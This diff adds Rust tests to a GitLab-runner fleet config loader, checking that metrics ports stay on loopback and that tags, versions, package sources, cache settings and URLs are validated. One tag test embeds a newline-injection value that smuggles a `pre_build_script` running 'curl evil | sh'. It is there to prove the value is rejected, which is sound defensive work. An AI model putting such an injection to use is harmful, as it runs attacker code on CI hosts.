@@ -351,7 +351,7 @@ fn runner_keys_for_the_templates_have_defaults() {
     let r = load(BASE).unwrap().stack.runner;
     assert_eq!(r.executor, fleet_core::stack::RunnerExecutor::Docker);
     assert_eq!(r.docker_image, "alpine:3.20");
-    assert_eq!(r.metrics_listen, "0.0.0.0:9252");
+    assert_eq!(r.metrics_listen, "127.0.0.1:9252");
     assert_eq!(r.drain_timeout, std::time::Duration::from_secs(7200));
     assert!(!r.dind);
     assert_eq!(r.cache, None);
@@ -460,4 +460,222 @@ fn daemon_keys_have_defaults_and_are_checked_where_they_are_written() {
         .unwrap_err()
         .to_string();
     assert!(e.contains("--set daemon.interval=nonsense"), "{e}");
+}
+
+// Issue 15: the boot-time settings (D3, D5-D7, D9, D10).
+
+/// BASE on `provider` with the real user data template, so the boot checks apply.
+fn booting(provider: &str, runner_lines: &str) -> String {
+    let user_data = Path::new(env!("CARGO_MANIFEST_DIR")).join("../instance/cloudinit.yml.j2");
+    BASE.replace(
+        "  kind: sandbox\n  boot_time: 5s",
+        &format!("  kind: {provider}"),
+    )
+    .replace(
+        "  tags: [docker]",
+        &format!("  gitlab_url: https://gitlab.example.com\n  tags: [docker]\n{runner_lines}"),
+    ) + &format!("templates:\n  user_data: {}\n", user_data.display())
+}
+
+/// D7: the runner's metrics port also serves /debug/pprof and /debug/jobs/list without
+/// authentication, so neither the default nor an example stack puts it on every address.
+#[test]
+fn the_metrics_port_defaults_to_loopback_and_no_example_publishes_it() {
+    assert_eq!(
+        load(BASE).unwrap().stack.runner.metrics_listen,
+        "127.0.0.1:9252"
+    );
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../stacks");
+    for entry in std::fs::read_dir(&dir).unwrap() {
+        let p = entry.unwrap().path();
+        if p.extension().is_some_and(|e| e == "yaml") {
+            let env = |_: &str| Some("test-value".to_string());
+            let l = fleet_core::stack::load(&p, &[], &env).unwrap();
+            let host = l
+                .stack
+                .runner
+                .metrics_listen
+                .rsplit_once(':')
+                .unwrap()
+                .0
+                .to_string();
+            assert!(
+                !["0.0.0.0", "[::]", "::"].contains(&host.as_str()),
+                "{} publishes the metrics and debug port on {host}",
+                p.display()
+            );
+        }
+    }
+}
+
+/// D9: a tag containing a newline once added a real `pre_build_script` key to config.toml;
+/// tags are checked at load with GitLab's rules.
+#[test]
+fn runner_tags_follow_gitlabs_rules_at_load() {
+    let tags = |t: &str| BASE.replace("  tags: [docker]", &format!("  tags: {t}"));
+    let e = err(&tags(
+        "[\"docker\\npre_build_script = \\\"curl evil | sh\\\"\"]",
+    ));
+    assert!(
+        e.contains("runner.tags[0]") || e.contains("stacks/x.yaml:9:"),
+        "{e}"
+    );
+    assert!(e.contains("control character"), "{e}");
+    assert!(err(&tags("[\"a,b\"]")).contains("comma"));
+    assert!(err(&tags("[\" padded\"]")).contains("blank"));
+    assert!(err(&tags("[docker, docker]")).contains("listed twice"));
+    assert!(err(&tags(&format!("[{}]", "x".repeat(256)))).contains("255"));
+    assert!(load(&tags("[docker, linux-amd64, \"gpu a100\"]")).is_ok());
+}
+
+/// D5: the runner version is pinned, with a documented default, and checked.
+#[test]
+fn the_runner_version_has_a_pinned_default_and_is_checked() {
+    use fleet_core::stack::{DockerSource, RunnerSource, DEFAULT_RUNNER_VERSION};
+    let r = load(BASE).unwrap().stack.runner;
+    assert_eq!(r.version, DEFAULT_RUNNER_VERSION);
+    assert_eq!(r.install.docker, DockerSource::DockerCe);
+    assert_eq!(r.install.runner, RunnerSource::Repository);
+    let with = |line: &str| BASE.replace("  tags: [docker]", &format!("  tags: [docker]\n{line}"));
+    let e = err(&with("  version: latest"));
+    assert!(
+        e.contains("runner.version `latest` is not a version") && e.contains("stacks/x.yaml:10:3"),
+        "{e}"
+    );
+    let e = err(&with("  version: 16.11.0"));
+    assert!(e.contains("older than 17.7"), "{e}");
+    let e = err(&with("  install: {docker_version: \"28.5\"}"));
+    assert!(e.contains("docker_version `28.5` is not a version"), "{e}");
+    assert_eq!(
+        load(&with("  version: 18.6.1"))
+            .unwrap()
+            .stack
+            .runner
+            .version,
+        "18.6.1"
+    );
+}
+
+/// D6: package sources, mirrors and an apt proxy, each checked against the source it
+/// belongs to.
+#[test]
+fn package_sources_name_what_they_need() {
+    let with = |line: &str| BASE.replace("  tags: [docker]", &format!("  tags: [docker]\n{line}"));
+    let ok = load(&with(
+        "  install: {docker: docker.io, runner: deb, runner_deb: /opt/pkgs/gitlab-runner_18.5.0-1_amd64.deb, apt_proxy: \"http://10.0.0.2:3142\"}",
+    ))
+    .unwrap();
+    assert_eq!(
+        ok.stack.runner.install.docker,
+        fleet_core::stack::DockerSource::DockerIo
+    );
+    let e = err(&with("  install: {runner: deb}"));
+    assert!(e.contains("runner_deb is not set"), "{e}");
+    let e = err(&with(
+        "  install: {runner: deb, runner_deb: gitlab-runner.deb}",
+    ));
+    assert!(e.contains("not an absolute path or http(s) URL"), "{e}");
+    let e = err(&with(
+        "  install: {runner: preinstalled, runner_repository: \"https://mirror.internal/gl\"}",
+    ));
+    assert!(
+        e.contains("runner.install.runner_repository is set but"),
+        "{e}"
+    );
+    let e = err(&with(
+        "  install: {docker: docker.io, docker_repository: \"https://mirror.internal/d\"}",
+    ));
+    assert!(
+        e.contains("docker_repository is set but runner.install.docker is not `docker-ce`"),
+        "{e}"
+    );
+    let e = err(&with("  install: {apt_proxy: \"10.0.0.2:3142\"}"));
+    assert!(
+        e.contains("apt_proxy `10.0.0.2:3142` is not an http://"),
+        "{e}"
+    );
+    let e = err(&with("  install: {docker: podman}"));
+    assert!(e.contains("podman"), "{e}");
+}
+
+/// D3: the runner writes `https://` before `server_address`, off AWS there is no instance
+/// role, and an S3-compatible store needs both keys.
+#[test]
+fn the_cache_settings_are_ones_gitlab_runner_can_use() {
+    let e = err(&booting(
+        "sandbox",
+        "  cache: {bucket: c, server_address: \"http://minio:9000\"}",
+    ));
+    assert!(
+        e.contains("has a scheme") && e.contains("insecure: true"),
+        "{e}"
+    );
+    let e = err(&booting("hetzner", "  cache: {bucket: c}"));
+    assert!(
+        e.contains("no server_address") && e.contains("hetzner"),
+        "{e}"
+    );
+    let e = err(&booting(
+        "hetzner",
+        "  cache: {bucket: c, server_address: \"minio:9000\"}",
+    ));
+    assert!(e.contains("no keys"), "{e}");
+    let e = err(&booting(
+        "hetzner",
+        "  cache: {bucket: c, server_address: \"minio:9000\", access_key_env: K}",
+    ));
+    assert!(e.contains("secret_key_env is not set"), "{e}");
+    let e = err(&booting("aws", "  cache: {bucket: c, insecure: true}"));
+    assert!(
+        e.contains("insecure needs runner.cache.server_address"),
+        "{e}"
+    );
+    let text = booting(
+        "hetzner",
+        "  cache: {bucket: c, server_address: \"minio:9000\", insecure: true, access_key_env: K, secret_key_env: S}",
+    );
+    assert!(load(&text).is_err(), "the key variables must be set");
+    let env = |k: &str| match k {
+        "K" => Some("access-1".to_string()),
+        "S" => Some("secret-1".to_string()),
+        _ => None,
+    };
+    let l = load_str(Path::new("stacks/x.yaml"), &text, &[], &env).unwrap();
+    assert_eq!(l.secret("S").unwrap().expose(), "secret-1");
+    assert!(!format!("{l:?}").contains("secret-1"));
+}
+
+/// D10: a loopback GitLab URL is the VM itself; only the sandbox and emulator rigs (whose
+/// cloud endpoint is on this machine too) may use one.
+#[test]
+fn a_loopback_gitlab_url_is_refused_where_vms_boot() {
+    let local =
+        |p: &str| booting(p, "").replace("https://gitlab.example.com", "http://127.0.0.1:8929");
+    let e = err(&local("hetzner"));
+    assert!(
+        e.contains("runner.gitlab_url `http://127.0.0.1:8929` is a loopback address")
+            && e.contains("instance_gitlab_url"),
+        "{e}"
+    );
+    assert!(err(&local("libvirt")).contains("10.0.2.2"));
+    assert!(load(&local("sandbox")).is_ok());
+    let emulated = local("hetzner").replace(
+        "  kind: hetzner",
+        "  kind: hetzner\n  endpoint: http://127.0.0.1:4000",
+    );
+    assert!(load(&emulated).is_ok());
+    let aws = local("aws");
+    let moto = |k: &str| (k == "AWS_ENDPOINT_URL").then(|| "http://127.0.0.1:5000".to_string());
+    assert!(load(&aws).is_err());
+    assert!(load_str(Path::new("stacks/x.yaml"), &aws, &[], &moto).is_ok());
+    let split = local("libvirt").replace(
+        "  tags: [docker]",
+        "  instance_gitlab_url: http://10.0.2.2:8929\n  tags: [docker]",
+    );
+    assert!(
+        load(&split).is_ok(),
+        "{:?}",
+        load(&split).err().map(|e| e.to_string())
+    );
+    assert!(err(&split.replace("http://10.0.2.2", "10.0.2.2")).contains("instance_gitlab_url"));
 }
